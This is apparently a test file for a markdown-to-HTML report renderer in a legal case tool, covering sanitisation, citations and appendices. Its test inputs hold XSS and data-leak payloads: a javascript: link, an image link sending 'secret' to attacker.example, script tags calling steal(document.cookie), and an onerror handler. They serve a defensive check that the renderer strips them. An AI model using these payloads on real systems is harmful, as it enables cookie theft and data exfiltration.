import type { Tokens } from 'marked';
import { buildSampleReport } from '@test/fixtures/sample-report';
import { buildReportHtml, renderMarkdownHtml } from './report-html';
import { createReportMarked, lexReport } from './report-markdown';
import type { RenderableReport } from './report.types';

function report(markdown: string, overrides: Partial<RenderableReport> = {}): RenderableReport {
  return {
    kind: 'case-summary',
    projectName: 'Acme v Borealis',
    generatedAt: new Date(Date.UTC(2025, 0, 31, 9, 5)),
    documents: ['Supply Agreement.pdf'],
    engine: 'offline',
    markdown,
    citations: [
      { file: 'Supply Agreement.pdf', page: 3, start: 100, end: 160, quote: 'The Supplier shall not be liable for indirect loss.' },
      { file: 'Supply Agreement.pdf', page: 7, start: 900, end: 950, quote: 'Either party may terminate on 30 days notice.' },
    ],
    ...overrides,
  };
}

describe('renderMarkdownHtml', () => {
  it('drops javascript: links but keeps their text and keeps https links', () => {
    const { html } = renderMarkdownHtml(report('See [the clause](javascript:alert(1)) and [the register](https://example.com/register).'));
    expect(html).not.toMatch(/javascript:/i);
    expect(html).toContain('the clause');
    expect(html).toContain('<a href="https://example.com/register">the register</a>');
  });

  it('keeps an image’s description but never the image or its address', () => {
    const { html } = renderMarkdownHtml(report('Risk ![the <client> key](https://attacker.example/leak?q=secret "t") noted.\n\n![](http://attacker.example/p.png)'));
    expect(html).not.toMatch(/<img|attacker/i);
    expect(html).toContain('the &lt;client&gt; key');
  });

  it('prints under a policy that lets the page load nothing but inline styles and data: images', () => {
    expect(buildReportHtml(report('Body.')).html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`,
    );
  });

  it('removes script elements with their content, inline and as blocks', () => {
    const { html } = renderMarkdownHtml(report('Before <script>steal(document.cookie)</script> after.\n\n<script>\nsteal(2)\n</script>\n\nEnd.'));
    expect(html).not.toMatch(/<script|steal/i);
    expect(html).toContain('Before');
    expect(html).toContain('after.');
    expect(html).toContain('End.');
  });

  it('reduces other raw HTML to its text instead of passing it through', () => {
    const { html } = renderMarkdownHtml(report('A <img src=x onerror="alert(1)"> <b>bold</b> word.\n\n<div style="color:red">Block text</div>'));
    expect(html).not.toMatch(/<img|onerror|<div style|<b>/i);
    expect(html).toContain('bold');
    expect(html).toContain('Block text');
  });

  it('turns citation markers into links to their sources and leaves out-of-range numbers as text', () => {
    const { html } = renderMarkdownHtml(report('Capped liability [1]. Both terms [1, 2]. Not a citation [9].'));
    expect(html).toContain('<sup class="cite">[<a href="#source-1">1</a>]</sup>');
    expect(html).toContain('<sup class="cite">[<a href="#source-1">1</a>, <a href="#source-2">2</a>]</sup>');
    expect(html).toContain('Not a citation [9].');
  });

  it('renders severities of a table as coloured badges', () => {
    const { html } = renderMarkdownHtml(report('| Risk | Severity |\n|---|---|\n| Cap | High |\n| Renewal | low |\n| Note | Highly relevant |'));
    expect(html).toContain('<span class="severity severity-high">High</span>');
    expect(html).toContain('<span class="severity severity-low">low</span>');
    expect(html).toContain('<td>Highly relevant</td>');
    expect(html).toContain('<th>Severity</th>');
  });

  it('anchors the markers of the Sources section instead of linking them', () => {
    const { html, hasSources } = renderMarkdownHtml(report('Claim [1].\n\n## Sources\n\n- [1] Supply Agreement.pdf, page 3\n- [2] Supply Agreement.pdf, page 7'));
    expect(hasSources).toBe(true);
    expect(html).toContain('<span class="source-label" id="source-1">[1]</span>Supply Agreement.pdf, page 3');
    expect(html).toContain('<div class="sources-section">');
  });
});

describe('lexReport', () => {
  it('drops a leading title that repeats the report kind and lifts headings to level 1', () => {
    const marked = createReportMarked(0);
    const { sections } = lexReport(marked, '# Case Summary\n\n## Overview\n\nText\n\n### Detail', 'Case Summary');
    const headings = sections.flatMap((s) => s.tokens).filter((t): t is Tokens.Heading => t.type === 'heading');
    expect(headings.map((h) => [h.text, h.depth])).toEqual([
      ['Overview', 1],
      ['Detail', 2],
    ]);
  });
});

describe('buildReportHtml', () => {
  it('fills the title block, header and footer and escapes the project name', () => {
    const built = buildReportHtml(report('Text [1].', { projectName: 'Acme <img src=x> & Co', kind: 'liability-analysis' }));
    expect(built.html).toContain('<h1 class="report-title">Liability Analysis</h1>');
    expect(built.html).toContain('Acme &lt;img src&#x3D;x&gt; &amp; Co');
    expect(built.html).toContain('31 January 2025, 09:05 UTC');
    expect(built.html).toContain('<li>Supply Agreement.pdf</li>');
    expect(built.headerTemplate).toContain('Acme &lt;img');
    expect(built.footerTemplate).toContain('Confidential');
    expect(built.footerTemplate).toContain('<span class="pageNumber"></span>');
    expect(built.footerTemplate).toContain('<span class="totalPages"></span>');
  });

  it('appends a sources appendix with every citation when the markdown has no Sources section', () => {
    const built = buildReportHtml(report('Liability is capped [1].'));
    expect(built.html).toContain('<section class="sources-appendix">');
    expect(built.html).toContain('<li id="source-1">');
    expect(built.html).toContain('<li id="source-2">');
    expect(built.html).toContain('page 7');
  });

  it('adds no appendix when the markdown already ends with its Sources', () => {
    const built = buildReportHtml(buildSampleReport({ risks: 4 }));
    expect(built.html).not.toContain('<section class="sources-appendix">');
    expect(built.html).toContain('id="source-4"');
  });
});
